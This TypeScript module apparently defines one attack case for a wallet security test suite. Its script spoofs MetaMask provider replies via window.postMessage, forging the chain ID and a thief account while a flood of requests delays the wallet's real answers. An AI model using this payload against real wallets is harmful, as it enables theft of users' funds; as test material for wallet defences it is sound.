import { ACCOUNTS } from '../../setup/fixture.ts';
import type { Attack } from '../Attack.ts';

/** The wallet is kept busy, so that the page's own answers about chain and account are the only ones in time. */
export const attack: Attack = {
  entry: 'window.postMessage to the inpage script',
  mechanism: "answers forged for provider and guardian while a flood of reads delays the wallet's",
  discovers: false,
  script: `
await kit.ready();
const wallet = window.ethereum;
addEventListener('message', (event) => {
  const body = event.data?.target === 'metamask-contentscript' && event.data.data?.data;
  const result = { eth_chainId: '0x1', eth_accounts: [kit.thief] }[body?.method];
  if (result && !String(body.id).startsWith('flood')) window.postMessage({ target: 'metamask-inpage', data: { name: 'metamask-provider', data: { jsonrpc: '2.0', id: body.id, result } } }, location.origin);
}, true);
let count = 0;
const flood = setInterval(() => { for (let more = 0; more < 12; more += 1) kit.post({ jsonrpc: '2.0', id: 'flood' + (count += 1), method: 'net_version', params: [] }); }, 50);
setTimeout(() => clearInterval(flood), 2000);
await wallet.request(kit.send());
`,
  drive: async (stage) => {
    await stage.approve(stage.marker, ACCOUNTS.attacker.address);
    await new Promise((resolve) => setTimeout(resolve, 2500));
  },
};
